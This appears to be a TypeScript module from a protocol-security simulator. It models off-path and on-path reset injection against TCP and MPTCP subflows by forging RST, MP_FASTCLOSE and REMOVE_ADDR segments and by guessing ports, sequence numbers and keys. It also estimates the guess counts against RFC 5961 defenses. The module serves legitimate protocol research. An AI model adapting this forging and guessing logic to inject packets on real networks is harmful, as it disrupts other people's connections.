/**
 * Reset injection (TCP heritage, RFC 5961): at `atUs`, forge what tears a
 * connection down — a RST (with or without MP_TCPRST), an MP_FASTCLOSE, or
 * a REMOVE_ADDR — toward the victim, on every subflow the attacker knows.
 *
 * With knowledge (it saw the subflow), it uses the sequence numbers it saw
 * last, which the victim accepts only if nothing moved since (RFC 5961:
 * a RST must hit RCV.NXT exactly). Without (off-path), it knows only who
 * talks to which service, and guesses the client's port and the sequence
 * number, one real packet per guess, within its budget. MP_FASTCLOSE also
 * needs the victim's 64-bit key; without it, that is guessed too.
 * Whether anything breaks is up to the hosts.
 */
import { hex64 } from '../../core/hex.ts';
import type { Out } from '../../scenario/schema-dsl.ts';
import type { IpAddress } from '../../wire/ip-address.ts';
import { formatEndpoint } from '../../wire/ip-address.ts';
import { TCP_FLAG } from '../../wire/tcp-header.ts';
import type { TcpOption } from '../../wire/tcp-options.ts';
import type { BLIND_RESET_PARAMS } from '../catalog.ts';
import { craftSegment } from '../craft.ts';
import type { KnownConnection } from '../knowledge.ts';
import type { AttackContext, AttackStrategy, StrategyDefinition } from '../strategy.ts';

type Params = Out<typeof BLIND_RESET_PARAMS>;

/** Linux's ephemeral ports (net.ipv4.ip_local_port_range 32768 60999). */
const EPHEMERAL_LOW = 32768;
const EPHEMERAL_COUNT = 60999 - 32768 + 1;
/** The receive window a Linux host advertises early on (ours: 6 MiB), for in-window guesses. */
const TYPICAL_WINDOW = 6 * 1024 * 1024;

interface Target {
  from: { addr: IpAddress; port: number };
  to: { addr: IpAddress; port: number };
  seq: number;
  ack: number;
}

function options(p: Params, key: bigint | null): TcpOption[] {
  switch (p.method) {
    case 'mp-tcprst':
      return [{ kind: 'mp-tcprst', transient: false, reserved: 0, reason: 0 }];
    case 'mp-fastclose':
      return [{ kind: 'mp-fastclose', receiverKey: key ?? 0n, reserved: 0 }];
    case 'remove-addr':
      // Address IDs are small numbers handed out in order: 0 (the initial subflow's) to 2 cover the usual cases.
      return [{ kind: 'remove-addr', addressIds: [0, 1, 2], reserved: 0 }];
    default:
      return [];
  }
}

function flagsFor(p: Params): number {
  // MP_FASTCLOSE and REMOVE_ADDR ride on ACKs (RFC 8684 §3.5, §3.4.2); the others are resets.
  return p.method === 'mp-fastclose' || p.method === 'remove-addr' ? TCP_FLAG.ACK : TCP_FLAG.RST | TCP_FLAG.ACK;
}

class BlindReset implements AttackStrategy {
  constructor(private readonly p: Params) {}

  start(ctx: AttackContext): void {
    ctx.later(this.p.atUs, () => this.strike(ctx));
  }

  private strike(ctx: AttackContext): void {
    const known = [...ctx.knowledge.connections.values()];
    if (known.length > 0) {
      for (const c of known) this.informed(ctx, c);
      return;
    }
    this.blind(ctx);
  }

  /** It saw the subflow: forge from what it saw. */
  private informed(ctx: AttackContext, c: KnownConnection): void {
    const kb = ctx.knowledge;
    const { toServer, toClient } = kb.flowsOf(c);
    const victimIsClient = this.p.victim === 'client';
    const towardVictim = victimIsClient ? toClient : toServer;
    const fromVictim = victimIsClient ? toServer : toClient;
    const t: Target = {
      from: victimIsClient ? c.server : c.client,
      to: victimIsClient ? c.client : c.server,
      seq: towardVictim?.nextSeq ?? ctx.rng.u32(),
      ack: fromVictim?.nextSeq ?? 0,
    };
    let key: bigint | null = null;
    let guess = towardVictim === undefined;
    if (this.p.method === 'mp-fastclose') {
      const pair = kb.keyPairs.get(c.key);
      key = (victimIsClient ? pair?.client : pair?.server) ?? null;
      if (key === null) {
        key = ctx.rng.u64();
        guess = true;
      }
    }
    const bytes = craftSegment({ ...addressesOf(t), seq: t.seq, ack: t.ack, flags: flagsFor(this.p), options: options(this.p, key) });
    const seen = towardVictim ? `the sequence number it saw last (${t.seq}, at ${towardVictim.lastSeenUs} µs)` : 'a guessed sequence number';
    const withKey = this.p.method === 'mp-fastclose' ? (guess && key !== null ? `, a guessed key ${hex64(key)}` : `, the victim's key ${hex64(key!)} it read earlier`) : '';
    ctx.inject(bytes, `${this.p.method} to ${formatEndpoint(t.to.addr, t.to.port)} as ${formatEndpoint(t.from.addr, t.from.port)}, with ${seen}${withKey}`, { guess });
  }

  /** Off-path: guess the client's port and the sequence number, one packet per guess. */
  private blind(ctx: AttackContext): void {
    const services = ctx.services;
    if (services.length === 0) return;
    ctx.act({ kind: 'attacker-blind', note: `knows no subflow: guesses ports and sequence numbers, ${ctx.spec.guessBudget} packets at most` });
    let i = 0;
    const next = () => {
      const s = services[i % services.length]!;
      const client = s.clientAddresses.find((a) => a.family === s.server.family);
      if (!client) return;
      const clientPort = EPHEMERAL_LOW + ctx.rng.below(EPHEMERAL_COUNT);
      const victimIsClient = this.p.victim === 'client';
      const t: Target = {
        from: victimIsClient ? { addr: s.server, port: s.port } : { addr: client, port: clientPort },
        to: victimIsClient ? { addr: client, port: clientPort } : { addr: s.server, port: s.port },
        seq: ctx.rng.u32(),
        ack: ctx.rng.u32(),
      };
      const key = this.p.method === 'mp-fastclose' ? ctx.rng.u64() : null;
      const bytes = craftSegment({ ...addressesOf(t), seq: t.seq, ack: t.ack, flags: flagsFor(this.p), options: options(this.p, key) });
      if (ctx.inject(bytes, `guess ${i + 1}: port ${clientPort}, seq ${t.seq}`, { guess: true }) === null) return;
      i++;
      ctx.later(ctx.now() + this.p.spacingUs, next);
    };
    next();
  }

  expectedGuesses(): { guesses: number; why: string } {
    const ports = EPHEMERAL_COUNT;
    if (this.p.method === 'rst' || this.p.method === 'mp-tcprst') {
      return { guesses: ports * 2 ** 32, why: `${ports} client ports × 2^32 sequence numbers: since RFC 5961 a RST is accepted only at exactly RCV.NXT` };
    }
    const inWindow = Math.ceil(2 ** 32 / TYPICAL_WINDOW);
    if (this.p.method === 'remove-addr') {
      return { guesses: ports * inWindow, why: `${ports} client ports × ${inWindow} sequence numbers (any in a ${TYPICAL_WINDOW}-byte window will do): REMOVE_ADDR carries no HMAC` };
    }
    return { guesses: ports * inWindow * 2 ** 64, why: `${ports} client ports × ${inWindow} in-window sequence numbers × 2^64 keys: MP_FASTCLOSE must carry the victim's key` };
  }
}

function addressesOf(t: Target) {
  return { src: t.from.addr, dst: t.to.addr, srcPort: t.from.port, dstPort: t.to.port };
}

export const blindReset: StrategyDefinition = {
  create: (params) => new BlindReset(params as Params),
  // Against plain TCP the same attacker tears the connection down with a RST.
  tcpEquivalent: (params) => ({ ...params, method: 'rst' }),
};
